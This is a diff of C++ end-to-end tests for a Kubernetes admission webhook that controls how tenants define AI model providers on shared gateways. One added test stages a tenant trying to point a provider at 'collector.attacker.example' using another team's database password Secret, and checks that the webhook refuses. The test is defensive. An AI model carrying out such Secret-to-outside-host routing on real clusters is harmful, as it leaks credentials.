@@ -276,7 +276,7 @@ TEST_F(WebhookE2E, ValidExamplesAreAdmittedAndDryRunStoresNothing) {
 // One tenant (alpha) is on the shared gateways first; another (bravo), and a namespace the gateway does
 // not admit (charlie), then try each cross-tenant mistake. Every attempt is refused by the webhook, and
 // its message names neither alpha's namespace, nor its providers, nor its Secret.
-TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
+TEST_F(WebhookE2E, CrossTenantRefusalsNameTheHolderButNoSecret) {
   const auto alpha = unique_name("tenant-alpha");
   const auto bravo = unique_name("tenant-bravo");
   const auto charlie = unique_name("tenant-charlie");
@@ -309,6 +309,7 @@ TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
   struct Attempt {
     std::string what, field, phrase;
     json object;
+    std::string holder = "";  // alpha's provider holding the contested value, if any
   };
   const std::vector<Attempt> attempts = {
       {"namespace not admitted", "spec.gatewayRef", "does not match the namespace selector",
@@ -318,12 +319,14 @@ TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
                 {{"model", "openai/gpt-4.1"}, {"accessKeySecretRef", {{"name", "bravo-own-key"}, {"key", "api-key"}}}})},
       {"second default", "spec.default", "already the default",
        provider(bravo, "bravo-default", "platform", "xt-shared",
-                {{"model", "anthropic/claude-sonnet-4-5"}, {"passthroughAuth", true}, {"default", true}})},
+                {{"model", "anthropic/claude-sonnet-4-5"}, {"passthroughAuth", true}, {"default", true}}),
+       alpha_default},
       {"duplicate model_id", "spec.model", "model_id gpt-4o is already served",
        provider(bravo, "bravo-azure", "platform", "xt-shared",
-                {{"model", "azure_openai/gpt-4o"}, {"baseURL", "https://bravo.openai.azure.com"}, {"passthroughAuth", true}})},
+                {{"model", "azure_openai/gpt-4o"}, {"baseURL", "https://bravo.openai.azure.com"}, {"passthroughAuth", true}}),
+       alpha_default},
       {"port collision", "spec.baseURL", "Plano would merge them into one upstream",
-       provider(bravo, "bravo-vllm", "platform", "xt-shared", vllm_spec("vllm/Qwen/Qwen2.5-7B-Instruct", 8001))}};
+       provider(bravo, "bravo-vllm", "platform", "xt-shared", vllm_spec("vllm/Qwen/Qwen2.5-7B-Instruct", 8001)), alpha_vllm}};
   for (const auto& a : attempts) {
     SCOPED_TRACE(a.what);
     const auto file = manifest_of({a.object}, "intruder");
@@ -334,15 +337,14 @@ TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
       EXPECT_TRUE(contains(r.err, kDenied)) << r.err;
       EXPECT_TRUE(contains(r.err, a.field + ": ")) << r.err;
       EXPECT_TRUE(contains(r.err, a.phrase)) << r.err;
-      for (const auto& secret_word : {alpha, alpha_default, alpha_vllm, secret}) {
-        EXPECT_FALSE(contains(r.err, secret_word)) << "names \"" << secret_word << "\":\n" << r.err;
-      }
+      // The holder of a contested value is named so the tenant knows whom to ask; a Secret never is.
+      EXPECT_FALSE(contains(r.err, secret)) << "names \"" << secret << "\":\n" << r.err;
+      if (!a.holder.empty()) EXPECT_TRUE(contains(r.err, "held by ModelProvider/" + alpha + "/" + a.holder)) << r.err;
     }
     EXPECT_TRUE(existing(file).empty());
   }
 
-  // The control that makes the checks above meaningful: within alpha's own namespace the winner is
-  // named, so a message that leaked it across namespaces would have been caught.
+  // Within alpha's own namespace the holder is named the same way.
   const auto own = manifest_of({provider(alpha, "alpha-second-default", "platform", "xt-shared",
                                          {{"model", "openai/o3"}, {"passthroughAuth", true}, {"default", true}})},
                                "own-namespace");
@@ -357,6 +359,46 @@ TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
 
 // A new certificate from the same CA replaces the files under the running process: the next
 // handshake presents it, verified like the API server verifies it, and the pid has not changed.
+// A tenant who may write providers but not read a Secret cannot make the gateway use it: the
+// webhook asks the API server (SubjectAccessReview) as the requesting user, here impersonated.
+TEST_F(WebhookE2E, AProviderMayUseOnlyASecretItsAuthorCanRead) {
+  const std::string user = unique_name("tenant");
+  const json role = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "Role"},
+                     {"metadata", {{"name", user}, {"namespace", "team-a"}}},
+                     {"rules", {{{"apiGroups", {"plano-operator.io"}}, {"resources", {"modelproviders"}},
+                                 {"verbs", {"get", "list", "create", "update", "patch", "delete"}}},
+                                {{"apiGroups", {""}}, {"resources", {"secrets"}}, {"resourceNames", {"own-key"}}, {"verbs", {"get"}}}}}};
+  const json binding = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "RoleBinding"},
+                        {"metadata", {{"name", user}, {"namespace", "team-a"}}},
+                        {"roleRef", {{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "Role"}, {"name", user}}},
+                        {"subjects", {{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "User"}, {"name", user}}}}};
+  apply_ok(manifest_of({role, binding}, "tenant-role"));
+  auto provider_using = [&](const std::string& name, const std::string& secret) {
+    return manifest_of({provider("team-a", name, "team-a", "no-such-gateway",
+                                 {{"model", "custom/collector"}, {"baseURL", "https://collector.attacker.example/v1"},
+                                  {"providerInterface", "openai"}, {"accessKeySecretRef", {{"name", secret}, {"key", "password"}}}})},
+                       name);
+  };
+  // The payments database's password: the tenant gets Forbidden reading it, and so is refused.
+  EXPECT_NE(kubectl("--as " + user + " -n team-a get secret payments-db").code, 0);
+  const auto stolen = provider_using("steal", "payments-db");
+  KubectlResult r;
+  ASSERT_TRUE(eventually([&] { return (r = kubectl("--as " + user + " apply " + yaml_of(stolen))).code != 0; }, 20s, 200ms)) << r.out;
+  EXPECT_TRUE(contains(r.err, "spec.accessKeySecretRef.name: " + user + " may not read Secret team-a/payments-db")) << r.err;
+  EXPECT_TRUE(existing(stolen).empty()) << "a refused provider was stored";
+  // Whether the Secret exists makes no difference to the answer, so the refusal reveals nothing.
+  const auto missing = provider_using("probe", "no-such-secret");
+  r = kubectl("--as " + user + " apply --dry-run=server " + yaml_of(missing));
+  EXPECT_TRUE(contains(r.err, "may not read Secret team-a/no-such-secret")) << r.err;
+  // A Secret the tenant may read is fine, and an administrator may use any.
+  const auto own = provider_using("own", "own-key");
+  r = kubectl("--as " + user + " apply --dry-run=server " + yaml_of(own));
+  EXPECT_EQ(r.code, 0) << r.err;
+  r = kubectl("apply --dry-run=server " + yaml_of(stolen));
+  EXPECT_EQ(r.code, 0) << r.err;
+  kubectl("delete rolebinding,role -n team-a " + user);
+}
+
 TEST_F(WebhookE2E, CertificateRotationTakesEffectWithoutARestart) {
   const pid_t pid = g->webhook->pid();
   const auto before = served_serial(g->port, g->pki->ca_cert());
